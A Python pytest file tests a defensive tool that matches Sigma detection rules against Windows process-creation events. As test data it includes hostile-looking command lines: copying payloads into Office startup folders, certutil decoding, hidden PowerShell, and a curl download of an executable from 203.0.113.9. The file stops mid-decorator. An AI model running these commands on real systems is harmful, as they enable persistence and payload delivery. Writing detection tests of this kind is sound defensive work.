"""Sigma evaluation of implied process-creation events (restytriage.sigma)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap
import uuid
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as hs
from sigma.rule import SigmaRule

from restytriage.sigma import RuleSet, SigmaMatch, clear_memory_cache, default_rule_dirs, load_rules

CORPUS = Path(__file__).resolve().parents[1].parent / "shared" / "corpus"
SIGMAHQ = CORPUS / "sigma" / "rules" / "windows" / "process_creation"
REGRESSION = CORPUS / "sigma" / "regression_data" / "rules" / "windows" / "process_creation"

RESTYLINK = {
    "Image": "C:\\Windows\\System32\\cmd.exe",
    "CommandLine": 'C:\\Windows\\System32\\cmd.exe /c copy /y "%TEMP%\\x.tmp" '
    '"%APPDATA%\\Microsoft\\Word\\STARTUP\\w.dot" & start "" "invoice.pdf"',
    "ParentImage": "C:\\Windows\\explorer.exe",
    "CurrentDirectory": "C:\\Users\\Public\\",
    "OriginalFileName": "Cmd.Exe",
    "ParentCommandLine": "C:\\Windows\\explorer.exe",
    "User": "DESKTOP\\bob",
    "IntegrityLevel": "Medium",
}


def _benign(image: str, args: str = "", original: str = "") -> dict[str, str]:
    cmd = f'"{image}"' + (f" {args}" if args else "")
    return {
        "Image": image,
        "CommandLine": cmd,
        "ParentImage": "C:\\Windows\\explorer.exe",
        "CurrentDirectory": "C:\\Users\\a\\Documents\\",
        "OriginalFileName": original or image.rsplit("\\", 1)[-1],
        "ParentCommandLine": "C:\\Windows\\explorer.exe",
        "User": "DESKTOP\\a",
        "IntegrityLevel": "Medium",
    }


BENIGN = [
    _benign(
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        '"C:\\Users\\a\\Documents\\report.docx"',
        "WinWord.exe",
    ),
    _benign("C:\\Windows\\System32\\notepad.exe", "C:\\Users\\a\\Desktop\\todo.txt", "NOTEPAD.EXE"),
    _benign("C:\\Windows\\System32\\cmd.exe", "", "Cmd.Exe"),
    _benign("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "", "PowerShell.EXE"),
    _benign(
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "https://example.com/", "chrome.exe"
    ),
    _benign("C:\\Windows\\System32\\mspaint.exe", '"C:\\Users\\a\\Pictures\\cat.png"', "MSPAINT.EXE"),
    _benign("C:\\Windows\\System32\\cmd.exe", '/c "C:\\Users\\a\\Desktop\\backup.bat"', "Cmd.Exe"),
]


# --------------------------------------------------------------------------- helpers


def _rule(detection: str, *, category: str = "process_creation", product: str | None = "windows") -> str:
    logsource = f"    category: {category}\n" + (f"    product: {product}\n" if product else "")
    return (
        f"title: test rule\nid: {uuid.uuid4()}\nstatus: test\nlevel: high\n"
        f"tags:\n    - attack.execution\n    - attack.t1059.003\n"
        f"logsource:\n{logsource}detection:\n"
        + textwrap.indent(textwrap.dedent(detection).strip("\n"), "    ")
    )


def _load(tmp_path: Path, *texts: str) -> RuleSet:
    for i, text in enumerate(texts):
        (tmp_path / f"r{i}.yml").write_text(text, encoding="utf-8")
    return load_rules([tmp_path])


def _hits(tmp_path: Path, detection: str, event: Mapping[str, object]) -> bool:
    rs = _load(tmp_path, _rule(detection))
    assert rs.skipped == [], rs.skipped
    assert len(rs.rules) == 1
    return bool(rs.match(event))  # type: ignore[arg-type]


def _sysmon_events(path: Path) -> list[dict[str, object]]:
    """The regression JSON files hold one or more concatenated Sysmon events."""
    text, decoder, pos, out = path.read_text(encoding="utf-8"), json.JSONDecoder(), 0, []
    while True:
        while pos < len(text) and text[pos].isspace():
            pos += 1
        if pos >= len(text):
            return out
        obj, pos = decoder.raw_decode(text, pos)
        out.append(obj["Event"]["EventData"])


# --------------------------------------------------------------------------- team rules


def test_team_rules_are_valid_sigma() -> None:
    dirs = default_rule_dirs()
    assert dirs and dirs[0].name == "sigma"
    files = sorted(dirs[0].glob("*.yml"))
    assert {f.name for f in files} >= {
        "restylink_office_startup_template_write.yml",
        "lnk_script_host_from_explorer.yml",
    }
    ids = set()
    for f in files:
        SigmaRule.from_yaml(f.read_text(encoding="utf-8"))  # strict: raises on any error
        raw = yaml.safe_load(f.read_text(encoding="utf-8"))
        for key in ("id", "title", "status", "description", "author", "date", "references", "tags", "level"):
            assert raw.get(key), (f.name, key)
        assert str(uuid.UUID(raw["id"])) == raw["id"]
        ids.add(raw["id"])
        assert raw["author"] == "restytriage"
        assert raw["logsource"] == {"category": "process_creation", "product": "windows"}
        assert any(t.startswith("attack.t") for t in raw["tags"])
    assert len(ids) == len(files)
    rs = load_rules(dirs)
    assert rs.skipped == [] and len(rs.rules) == len(files)


def test_team_rules_match_restylink_event() -> None:
    matches = load_rules(default_rule_dirs()).match(RESTYLINK)
    by_file = {Path(m.path).name: m for m in matches}
    startup = by_file["restylink_office_startup_template_write.yml"]
    assert startup.level == "high"
    assert {"T1137.001", "T1137.006"} <= set(startup.techniques)
    assert "attack.persistence" in startup.tags
    explorer = by_file["lnk_script_host_from_explorer.yml"]
    assert explorer.level == "medium" and "T1204.002" in explorer.techniques
    assert "lnk_decoy_document_with_chained_launch.yml" in by_file
    assert [m.level for m in matches] == sorted((m.level for m in matches), key=["high", "medium"].index)


@pytest.mark.parametrize(
    ("command", "rule_file"),
    [
        ('powershell -c Copy-Item x.dotm "$env:APPDATA/Microsoft/Word/STARTUP/x.dotm"', "restylink_office"),
        ('cmd /c echo AAAA > "%APPDATA%\\Microsoft\\Excel\\XLSTART\\book.xlsb"', "restylink_office"),
        ('certutil -decode b.txt "%APPDATA%\\Microsoft\\AddIns\\helper.xlam"', "restylink_office"),
        ('cmd /c xcopy /y a.tmp "%APPDATA%\\Microsoft\\Word\\STARTUP\\addin.wll"', "restylink_office"),
        ("cmd.exe /c start /b /min C:\\Users\\Public\\run.vbs", "lnk_script_host"),
        ("cmd.exe /c powershell -w hidden -c calc", "lnk_script_host"),
        ("cmd.exe /c curl -o a.exe http://203.0.113.9/a.exe", "lnk_script_host"),
        ('cmd.exe /c a.exe&start "" doc.docx', "lnk_decoy_document"),
        ("cmd.exe" + " " * 64 + "/c calc", "lnk_whitespace_padded"),
    ],
)
def test_team_rule_variants(command: str, rule_file: str) -> None:
    event = {**RESTYLINK, "CommandLine": command}
    names = {Path(m.path).name for m in load_rules(default_rule_dirs()).match(event)}
    assert any(n.startswith(rule_file) for n in names), names


@pytest.mark.parametrize(
    "command",
    [
        'cmd.exe /c start "" "invoice.pdf"',  # opening a document without a chained command
        'notepad.exe "%APPDATA%\\Microsoft\\Word\\STARTUP\\readme.txt"',  # reading, not writing
        "cmd.exe /c dir %APPDATA%\\Microsoft\\Word\\STARTUP",
    ],
)
def test_team_rules_near_misses(command: str) -> None:
    event = {**RESTYLINK, "CommandLine": command}
    assert load_rules(default_rule_dirs()).match(event) == []


@pytest.mark.parametrize(
    "event", BENIGN, ids=lambda e: e["Image"].rsplit("\\", 1)[-1] + str(len(e["CommandLine"]))
)
def test_team_rules_ignore_benign(event: dict[str, str]) -> None:
    assert load_rules(default_rule_dirs()).match(event) == []


def test_match_result_shape() -> None:
    m = load_rules(default_rule_dirs()).match(RESTYLINK)[0]
    assert isinstance(m, SigmaMatch)
    assert uuid.UUID(m.rule_id) and m.title and Path(m.path).is_file()
    assert all(t == t.upper() and t.startswith("T") for t in m.techniques)


# --------------------------------------------------------------------------- modifiers

EV = {
    "Image": "C:\\Windows\\System32\\cmd.exe",
    "CommandLine": "cmd.exe /c whoami -all & ping 10.0.0.1",
    "ParentImage": "C:\\Windows\\explorer.exe",
    "User": "CORP\\Alice",
    "SourceIp": "10.1.2.3",
    "Empty": "",
    "ProcessId": "4711",
}

MODIFIER_CASES = [
    # (detection, event overrides, expected)
    ("sel:\n  Image: 'c:\\windows\\system32\\CMD.EXE'\ncondition: sel", {}, True),  # equality, any case
    ("sel:\n  Image: 'cmd.exe'\ncondition: sel", {}, False),  # plain value is not contains
    ("sel:\n  image: 'C:\\Windows\\System32\\cmd.exe'\ncondition: sel", {}, True),  # field name case
    ("sel:\n  CommandLine|contains: WHOAMI\ncondition: sel", {}, True),
    ("sel:\n  CommandLine|contains: nothere\ncondition: sel", {}, False),
    ("sel:\n  Image|startswith: 'C:\\Windows\\'\ncondition: sel", {}, True),
    ("sel:\n  Image|startswith: 'System32'\ncondition: sel", {}, False),
    ("sel:\n  Image|endswith: '\\cmd.exe'\ncondition: sel", {}, True),
    ("sel:\n  Image|endswith: '\\powershell.exe'\ncondition: sel", {}, False),
    ("sel:\n  Image|endswith:\n    - '\\a.exe'\n    - '\\cmd.exe'\ncondition: sel", {}, True),  # list = OR
    ("sel:\n  CommandLine|contains|all: [whoami, ping]\ncondition: sel", {}, True),
    ("sel:\n  CommandLine|contains|all: [whoami, net]\ncondition: sel", {}, False),
    ("sel:\n  CommandLine: 'cmd.exe*ping*'\ncondition: sel", {}, True),  # '*' wildcard
    ("sel:\n  CommandLine: 'cmd.exe*net*'\ncondition: sel", {}, False),
    ("sel:\n  User: 'CORP\\Al?ce'\ncondition: sel", {}, True),  # '?' wildcard
    ("sel:\n  User: 'CORP\\Al?e'\ncondition: sel", {}, False),
    ("sel:\n  CommandLine|contains: 'a\\*b'\ncondition: sel", {"CommandLine": "xa*by"}, True),  # escaped
    ("sel:\n  CommandLine|contains: 'a\\*b'\ncondition: sel", {"CommandLine": "xaZZby"}, False),
    ("sel:\n  CommandLine|re: 'whoami\\s+-all'\ncondition: sel", {}, True),
    ("sel:\n  CommandLine|re: 'WHOAMI'\ncondition: sel", {}, False),  # re is case-sensitive
    ("sel:\n  CommandLine|re|i: 'WHOAMI'\ncondition: sel", {}, True),
    ("sel:\n  CommandLine|re: '^ping'\ncondition: sel", {"CommandLine": "a\nping"}, False),
    ("sel:\n  CommandLine|re|m: '^ping'\ncondition: sel", {"CommandLine": "a\nping"}, True),
    ("sel:\n  CommandLine|re: 'a.b'\ncondition: sel", {"CommandLine": "a\nb"}, False),
    ("sel:\n  CommandLine|re|s: 'a.b'\ncondition: sel", {"CommandLine": "a\nb"}, True),
    ("sel:\n  CommandLine|contains|windash: ' -all'\ncondition: sel", {"CommandLine": "whoami /all"}, True),
    (
        "sel:\n  CommandLine|contains|windash: ' -all'\ncondition: sel",
        {"CommandLine": "whoami \u2013all"},
        True,
    ),
    ("sel:\n  CommandLine|contains|windash: ' -all'\ncondition: sel", {"CommandLine": "whoami all"}, False),
    ("sel:\n  User|cased: 'CORP\\Alice'\ncondition: sel", {}, True),
    ("sel:\n  User|cased: 'corp\\alice'\ncondition: sel", {}, False),
    ("sel:\n  User|contains|cased: 'Ali'\ncondition: sel", {}, True),
    ("sel:\n  User|contains|cased: 'ALI'\ncondition: sel", {}, False),
    ("sel:\n  CommandLine|base64|contains: 'whoami'\ncondition: sel", {"CommandLine": "x d2hvYW1p y"}, True),
    ("sel:\n  CommandLine|base64|contains: 'whoami'\ncondition: sel", {"CommandLine": "whoami"}, False),
    (
        "sel:\n  CommandLine|base64offset|contains: 'whoami'\ncondition: sel",
        {"CommandLine": "eHdob2FtaQ=="},
        True,
    ),
    ("sel:\n  CommandLine|base64offset|contains: 'whoami'\ncondition: sel", {"CommandLine": "-e abc"}, False),
    (
        "sel:\n  CommandLine|wide|base64offset|contains: 'IEX'\ncondition: sel",
        {"CommandLine": "-enc SQBFAFgA"},
        True,
    ),
    (
        "sel:\n  CommandLine|utf16le|base64offset|contains: 'IEX'\ncondition: sel",
        {"CommandLine": "SQBFAFgA"},
        True,
    ),
    (
        "sel:\n  CommandLine|utf16le|base64offset|contains: 'IEX'\ncondition: sel",
        {"CommandLine": "SUVY"},
        False,
    ),
    ("sel:\n  SourceIp|cidr: '10.0.0.0/8'\ncondition: sel", {}, True),
    ("sel:\n  SourceIp|cidr: '192.168.0.0/16'\ncondition: sel", {}, False),
    ("sel:\n  SourceIp|cidr: '10.0.0.0/8'\ncondition: sel", {"SourceIp": "not an ip"}, False),
    ("sel:\n  Image|exists: true\ncondition: sel", {}, True),
    ("sel:\n  Hashes|exists: true\ncondition: sel", {}, False),
    ("sel:\n  Hashes|exists: false\ncondition: sel", {}, True),
    ("sel:\n  Image|exists: false\ncondition: sel", {}, False),
    ("sel:\n  Hashes: null\ncondition: sel", {}, True),  # null: absent ...
    ("sel:\n  Empty: null\ncondition: sel", {}, True),  # ... or empty
    ("sel:\n  Image: null\ncondition: sel", {}, False),
    ("sel:\n  Empty: ''\ncondition: sel", {}, True),
    ("sel:\n  Hashes: ''\ncondition: sel", {}, False),
    ("sel:\n  ParentImage|fieldref: Image\ncondition: sel", {"ParentImage": EV["Image"].upper()}, True),
    ("sel:\n  ParentImage|fieldref: Image\ncondition: sel", {}, False),
    (
        "sel:\n  CommandLine|fieldref|contains: User\ncondition: sel",
        {"CommandLine": "run as corp\\alice!"},
        True,
    ),
    (
        "sel:\n  CommandLine|fieldref|startswith: User\ncondition: sel",
        {"CommandLine": "x corp\\alice"},
        False,
    ),
    ("sel:\n  CommandLine|fieldref|endswith: User\ncondition: sel", {"CommandLine": "x corp\\alice"}, True),
    ("sel:\n  ProcessId: 4711\ncondition: sel", {}, True),  # numbers compare as text
    ("sel:\n  ProcessId|gt: 4000\ncondition: sel", {}, True),
    ("sel:\n  ProcessId|lt: 4000\ncondition: sel", {}, False),
    ("sel:\n  Image|neq: 'x'\ncondition: sel", {}, True),
    ("sel:\n  - whoami\n  - nothere\ncondition: sel", {}, True),  # keywords: full-text search
    ("sel:\n  - nothere\n  - zzz\ncondition: sel", {}, False),
    ("sel:\n  - 'cmd.exe*ping'\ncondition: sel", {}, True),
    ("sel:\n  - 'CORP\\Alice'\ncondition: sel", {}, True),
    ("sel:\n  '|contains': whoami\ncondition: sel", {}, True),
    ("sel:\n  '|all': ['cmd.exe /c*', '*10.0.0.1']\ncondition: sel", {}, True),
    ("sel:\n  '|all': ['*whoami*', 'nothere']\ncondition: sel", {}, False),
    ("sel:\n  Image|endswith: '\\cmd.exe'\n  User: nobody\ncondition: sel", {}, False),  # map = AND
    ("sel:\n  - Image|endswith: '\\x.exe'\n  - User: 'corp\\alice'\ncondition: sel", {}, True),  # list = OR
]


@pytest.mark.parametrize(("detection", "override", "expected"), MODIFIER_CASES)
def test_modifiers(tmp_path: Path, detection: str, override: dict[str, str], expected: bool) -> None:
    assert _hits(tmp_path, detection, {**EV, **override}) is expected


SELECTIONS = """
sel_a:
  CommandLine|contains: whoami
sel_b:
  Image|endswith: '\\cmd.exe'
sel_c:
  User: nobody
filter_x:
  ParentImage|endswith: '\\services.exe'
"""

CONDITION_CASES = [
    ("sel_a and sel_b", True),
    ("sel_a and sel_c", False),
    ("sel_a or sel_c", True),
    ("sel_c or sel_c", False),
    ("not sel_c", True),
    ("not sel_a", False),
    ("sel_a and not sel_c", True),
    ("sel_a and not (sel_b or sel_c)", False),
    ("(sel_a or sel_c) and (sel_b and not sel_c)", True),
    ("not sel_a or sel_c", False),  # not binds tighter than or
    ("1 of sel_*", True),
    ("any of sel_*", True),
    ("all of sel_*", False),
    ("all of sel_a*", True),
    ("1 of them", True),
    ("all of them", False),
    ("all of sel_* or 1 of filter_*", False),
    ("(sel_a and sel_b) and not 1 of filter_*", True),
    ("sel_a and sel_b and sel_a and not filter_x", True),
]


@pytest.mark.parametrize(("condition", "expected"), CONDITION_CASES)
def test_conditions(tmp_path: Path, condition: str, expected: bool) -> None:
    detection = SELECTIONS + f"condition: {condition}\n"
    assert _hits(tmp_path, detection, EV) is expected


def test_condition_list_means_any(tmp_path: Path) -> None:
    assert _hits(tmp_path, SELECTIONS + "condition:\n  - sel_c\n  - sel_a\n", EV)


# --------------------------------------------------------------------------- loading


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (_rule("sel:\n  Image: x\ncondition: sel", category="file_event"), "not process_creation"),
        (_rule("sel:\n  Image: x\ncondition: sel", product="linux"), "not process_creation"),
        (_rule("sel:\n  Image: x\ncondition: other"), "undefined detection"),
        (_rule("sel:\n  Image: x\ncondition: 1 of nothing_*"), "matches no detection"),
        (_rule("sel:\n  UtcTime|minute: 5\ncondition: sel"), "timestamp"),
        (_rule("sel:\n  Image|expand: '%dir%\\x.exe'\ncondition: sel"), "placeholder"),
        (_rule("sel:\n  Image|nosuchmodifier: x\ncondition: sel"), "nosuchmodifier"),
        (_rule("sel:\n  Image: x\ncondition: sel | count() > 5"), "pipe"),
        (_rule("sel:\n  Image|re: '(?<=a)b'\ncondition: sel"), "invalid"),
        ("title: broken\n  yaml: [", "YAML"),
        ("title: no detection\nlogsource:\n  category: process_creation\n", "detection"),
        ("- just\n- a list\n", "Error"),
        ("", "invalid rule"),
    ],
)
def test_bad_rules_are_skipped_with_reason(tmp_path: Path, text: str, reason: str) -> None:
    good = _rule("sel:\n  Image|endswith: '\\cmd.exe'\ncondition: sel")
    rs = _load(tmp_path, text, good)
    assert len(rs.rules) == 1
    assert len(rs.skipped) == 1
    path, why = rs.skipped[0]
    assert path.endswith("r0.yml")
    assert reason.lower() in why.lower(), why
    assert rs.match(EV)  # the good rule still works


def test_product_may_be_omitted(tmp_path: Path) -> None:
    rs = _load(tmp_path, _rule("sel:\n  Image|endswith: '\\cmd.exe'\ncondition: sel", product=None))
    assert rs.skipped == [] and rs.match(EV)


def test_missing_directory_is_reported(tmp_path: Path) -> None:
    rs = load_rules([tmp_path / "nope"])
    assert rs.rules == [] and rs.skipped == [(str(tmp_path / "nope"), "rule directory not found")]


def test_rules_found_recursively_and_in_stable_order(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "b.yaml").write_text(_rule("sel:\n  Image|endswith: '.exe'\ncondition: sel"))
    (tmp_path / "a.yml").write_text(_rule("sel:\n  Image|endswith: '.exe'\ncondition: sel"))
    (tmp_path / "notes.txt").write_text("not a rule")
    rs = load_rules([tmp_path])
    assert [Path(r.meta.path).name for r in rs.rules] == ["a.yml", "b.yaml"]


def test_load_is_cached_and_invalidated_by_edits(tmp_path: Path) -> None:
    rule = tmp_path / "r.yml"
    rule.write_text(_rule("sel:\n  Image|endswith: '\\cmd.exe'\ncondition: sel"))
    first = load_rules([tmp_path])
    assert load_rules([tmp_path]) is first
    rule.write_text(_rule("sel:\n  Image|endswith: '\\powershell.exe'\ncondition: sel"))
    os.utime(rule, ns=(1, 1))  # a different mtime even on coarse-grained file systems
    second = load_rules([tmp_path])
    assert second is not first and second.match(EV) == []


def test_results_most_severe_first(tmp_path: Path) -> None:
    texts = [
        _rule("sel:\n  Image|endswith: '.exe'\ncondition: sel").replace("level: high", f"level: {lvl}")
        for lvl in ("low", "critical", "medium", "informational", "high")
    ]
    rs = _load(tmp_path, *texts)
    assert [m.level for m in rs.match(EV)] == ["critical", "high", "medium", "low", "informational"]


def test_odd_events_never_raise(tmp_path: Path) -> None:
    rs = _load(tmp_path, _rule("sel:\n  Image|endswith: '\\cmd.exe'\ncondition: sel"))
    assert rs.match({}) == []
    assert rs.match({"Image": None, "CommandLine": 5}) == []  # type: ignore[dict-item]
    assert rs.match({"IMAGE": "C:\\x\\CMD.EXE"})


# --------------------------------------------------------------------------- property tests

FIELDS = hs.sampled_from(["Image", "CommandLine", "ParentImage", "OriginalFileName", "User", "image", "X"])
EVENTS = hs.dictionaries(FIELDS | hs.text(max_size=8), hs.text(max_size=300) | hs.none(), max_size=8)


@settings(max_examples=200, deadline=None)
@given(event=EVENTS)
def test_team_rules_never_raise(event: dict[str, str]) -> None:
    for m in load_rules(default_rule_dirs()).match(event):
        assert isinstance(m, SigmaMatch)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    value=hs.text(max_size=40),
    modifier=hs.sampled_from(
        [
            "",
            "|contains",
            "|startswith",
            "|endswith",
            "|contains|all",
            "|windash|contains",
            "|cased",
            "|re",
            "|re|i",
        ]
    ),
    event=EVENTS,
)
def test_random_rule_values_never_raise(
    tmp_path_factory: pytest.TempPathFactory, value: str, modifier: str, event: dict[str, str]
) -> None:
    folder = tmp_path_factory.mktemp("prop")
    detection = yaml.safe_dump({"sel": {f"CommandLine{modifier}": [value, "x"]}, "condition": "sel"})
    rs = _load(folder, _rule(detection))
    assert len(rs.rules) + len(rs.skipped) == 1  # loads or is skipped with a reason, never raises
    rs.match(event)


# --------------------------------------------------------------------------- public SigmaHQ corpus


@pytest.fixture(scope="module")
def sigmahq() -> RuleSet:
    if not SIGMAHQ.is_dir():
        pytest.skip("public corpus (../shared/corpus/sigma) not present")
    return load_rules([SIGMAHQ])


def test_corpus_rules_all_load_or_skip_with_reason(sigmahq: RuleSet) -> None:
    files = sorted(str(p) for p in SIGMAHQ.glob("*.yml"))
    assert len(files) >= 1000
    loaded = [r.meta.path for r in sigmahq.rules]
    assert sorted(loaded + [p for p, _ in sigmahq.skipped]) == files
    assert all(reason for _, reason in sigmahq.skipped)
    assert len(loaded) >= 0.98 * len(files)  # today every rule loads; guard against regressions


def _regression_cases() -> list[str]:
    return sorted(p.name for p in REGRESSION.iterdir()) if REGRESSION.is_dir() else ["<corpus missing>"]


@pytest.mark.parametrize("case", _regression_cases())
def test_corpus_regression_event_matches_its_rule(sigmahq: RuleSet, case: str) -> None:
    folder = REGRESSION / case
    info = yaml.safe_load((folder / "info.yml").read_text(encoding="utf-8"))
    rule_id = info["rule_metadata"][0]["id"]
    expected = info["regression_tests_info"][0].get("match_count")
    events = _sysmon_events(folder / f"{rule_id}.json")
    hits = sum(rule_id in {m.rule_id for m in sigmahq.match(ev)} for ev in events)  # type: ignore[arg-type]
    assert hits >= 1
    if expected is not None:
        assert hits == expected


@pytest.mark.parametrize(
    "event", BENIGN, ids=lambda e: e["Image"].rsplit("\\", 1)[-1] + str(len(e["CommandLine"]))
)
def test_corpus_benign_events_raise_no_high_alerts(sigmahq: RuleSet, event: dict[str, str]) -> None:
    assert [m.title for m in sigmahq.match(event) if m.level in ("high", "critical")] == []


@settings(max_examples=50, deadline=None)
@given(event=EVENTS)
def test_corpus_rules_never_raise(event: dict[str, str]) -> None:
    if not SIGMAHQ.is_dir():
        pytest.skip("public corpus (../shared/corpus/sigma) not present")
    load_rules([SIGMAHQ]).match(event)


# --------------------------------------------------------------------------- the disk cache

# A new process loading rule folders (argv) and matching events (stdin): what it found, whether the
# rules came from the disk cache and which of pySigma and its dependencies it had to import.
PROBE = """
import dataclasses, json, sys
from pathlib import Path
from restytriage.sigma import load_rules
rs = load_rules([Path(a) for a in sys.argv[1:]])
print(json.dumps({
    "from_cache": rs.from_cache,
    "imported": sorted(m for m in ("sigma", "pyparsing", "yaml") if m in sys.modules),
    "rules": [dataclasses.asdict(r.meta) for r in rs.rules],
    "skipped": rs.skipped,
    "matches": [[m.path for m in rs.match(event)] for event in json.load(sys.stdin)],
}))
"""


def _probe(folders: list[Path], events: list[dict[str, str]], cache: Path) -> dict[str, object]:
    done = subprocess.run(
        [sys.executable, "-c", PROBE, *map(str, folders)],
        input=json.dumps(events),
        capture_output=True,
        text=True,
        env={**os.environ, "RESTYTRIAGE_CACHE_DIR": str(cache)},
        timeout=120,
        check=True,
    )
    return json.loads(done.stdout)  # type: ignore[no-any-return]


def test_warm_load_skips_pysigma_and_matches_like_cold(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    for i, (detection, _, _) in enumerate(MODIFIER_CASES):
        (rules / f"m{i:02d}.yml").write_text(_rule(detection), encoding="utf-8")
    for i, (condition, _) in enumerate(CONDITION_CASES):
        (rules / f"c{i:02d}.yml").write_text(
            _rule(SELECTIONS + f"condition: {condition}\n"), encoding="utf-8"
        )
    (rules / "bad_condition.yml").write_text(_rule("sel:\n  Image: x\ncondition: other"), encoding="utf-8")
    (rules / "bad_yaml.yml").write_text("title: broken\n  yaml: [", encoding="utf-8")
    events = [{**EV, **override} for _, override, _ in MODIFIER_CASES] + [EV, RESTYLINK, *BENIGN]
    folders = [rules, *default_rule_dirs()]

    cold = _probe(folders, events, tmp_path / "cache")
    warm = _probe(folders, events, tmp_path / "cache")
    assert cold["from_cache"] is False and "sigma" in cold["imported"]  # type: ignore[operator]
    assert warm["from_cache"] is True and warm["imported"] == []
    assert {k: v for k, v in warm.items() if k not in ("from_cache", "imported")} == {
        k: v for k, v in cold.items() if k not in ("from_cache", "imported")
    }
    # and the warm rules are right, not merely the same
    matches: list[list[str]] = warm["matches"]  # type: ignore[assignment]
    for i, (_, _, expected) in enumerate(MODIFIER_CASES):
        assert (str(rules / f"m{i:02d}.yml") in matches[i]) is expected, MODIFIER_CASES[i]
    on_ev = matches[len(MODIFIER_CASES)]
    for i, (_, expected) in enumerate(CONDITION_CASES):
        assert (str(rules / f"c{i:02d}.yml") in on_ev) is expected, CONDITION_CASES[i]
    by_name = {Path(p).name: reason for p, reason in warm["skipped"]}  # type: ignore[union-attr]
    assert "undefined detection" in by_name["bad_condition.yml"]
    assert "invalid YAML" in by_name["bad_yaml.yml"]
    restylink = {Path(p).name for p in matches[len(MODIFIER_CASES) + 1]}
    assert "restylink_office_startup_template_write.yml" in restylink
    team = str(default_rule_dirs()[0])
    assert not [p for benign in matches[len(MODIFIER_CASES) + 2 :] for p in benign if p.startswith(team)]


@pytest.fixture
def private_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """This test's own cache folder (its sigma/ part), and no rule set remembered in this process."""
    monkeypatch.setenv("RESTYTRIAGE_CACHE_DIR", str(tmp_path / "cache"))
    clear_memory_cache()
    yield tmp_path / "cache" / "sigma"
    clear_memory_cache()


def _reload(folder: Path) -> RuleSet:
    clear_memory_cache()  # so load_rules goes to the disk cache, as a new process would
    return load_rules([folder])


def test_edited_rule_file_invalidates_disk_cache(tmp_path: Path, private_cache: Path) -> None:
    rule = tmp_path / "rules" / "r.yml"
    rule.parent.mkdir()
    rule.write_text(_rule("sel:\n  Image|endswith: '\\cmd.exe'\ncondition: sel"), encoding="utf-8")
    stat = rule.stat()
    first = load_rules([rule.parent])
    assert not first.from_cache and first.match(EV)
    assert _reload(rule.parent).from_cache

    # Same size and mtime, other content: only the content hash can tell.
    rule.write_text(rule.read_text(encoding="utf-8").replace("cmd.exe", "net.exe"), encoding="utf-8")
    os.utime(rule, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    assert rule.stat().st_size == stat.st_size
    edited = _reload(rule.parent)
    assert not edited.from_cache
    assert edited.match(EV) == [] and edited.match({**EV, "Image": "C:\\x\\net.exe"})
    assert len(list(private_cache.glob("*.rules"))) == 2


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(position=hs.integers(min_value=0), value=hs.integers(0, 255), truncate=hs.booleans())
@example(position=0, value=0, truncate=True)  # an empty file
@example(position=40, value=0, truncate=False)  # a changed byte in the payload
def test_corrupt_cache_file_is_rebuilt(
    tmp_path: Path, private_cache: Path, position: int, value: int, truncate: bool
) -> None:
    shutil.copytree(default_rule_dirs()[0], folder := tmp_path / "rules", dirs_exist_ok=True)
    expected = load_rules([folder])
    (entry,) = private_cache.glob("*.rules")
    good = entry.read_bytes()
    position %= len(good)
    damaged = good[:position] if truncate else good[:position] + bytes([value]) + good[position + 1 :]
    assume(damaged != good)
    entry.write_bytes(damaged)

    rebuilt = _reload(folder)
    assert not rebuilt.from_cache and entry.read_bytes() == good  # parsed again and rewritten
    assert rebuilt.skipped == expected.skipped
    assert [r.meta for r in rebuilt.rules] == [r.meta for r in expected.rules]
    assert rebuilt.match(RESTYLINK) == expected.match(RESTYLINK) != []
    assert _reload(folder).from_cache


def test_rule_file_name_need_not_be_utf8(tmp_path: Path, private_cache: Path) -> None:
    rule = tmp_path / os.fsdecode(b"caf\xe9.yml")  # a Latin-1 name on a Linux file system
    try:
        rule.write_text(_rule("sel:\n  Image|endswith: '\\cmd.exe'\ncondition: sel"), encoding="utf-8")
    except (OSError, UnicodeEncodeError):
        pytest.skip("this file system only takes UTF-8 names")
    cold = load_rules([tmp_path])
    warm = _reload(tmp_path)
    assert not cold.from_cache and warm.from_cache and warm.skipped == []
    assert [m.path for m in warm.match(EV)] == [m.path for m in cold.match(EV)] == [str(rule)]


def test_unwritable_cache_folder_only_costs_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("the cache folder's place is taken by a file")
    monkeypatch.setenv("RESTYTRIAGE_CACHE_DIR", str(blocker))
    for _ in range(2):  # nothing could be saved, so the second load parses again
        rs = _reload(default_rule_dirs()[0])
        assert not rs.from_cache and rs.skipped == [] and len(rs.rules) >= 4
        names = {Path(m.path).name for m in rs.match(RESTYLINK)}
        assert "restylink_office_startup_template_write.yml" in names
    assert blocker.read_text() == "the cache folder's place is taken by a file"
    clear_memory_cache()


def test_corpus_warm_load_matches_cold(private_cache: Path) -> None:
    if not SIGMAHQ.is_dir():
        pytest.skip("public corpus (../shared/corpus/sigma) not present")
    cold = load_rules([SIGMAHQ])
    warm = _reload(SIGMAHQ)
    assert not cold.from_cache and warm.from_cache
    assert [r.meta for r in warm.rules] == [r.meta for r in cold.rules]
    assert warm.skipped == cold.skipped
    events = [ev for path in sorted(REGRESSION.glob("*/*.json")) for ev in _sysmon_events(path)]
    assert events
    for event in [*events, *BENIGN, RESTYLINK, EV]:
        assert warm.match(event) == cold.match(event)  # type: ignore[arg-type]


SCALARS = (
    hs.none() | hs.booleans() | hs.integers(-5, 10**12) | hs.floats(allow_nan=False) | hs.text(max_size=12)
)
ODD = SCALARS | hs.lists(SCALARS, max_size=3)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
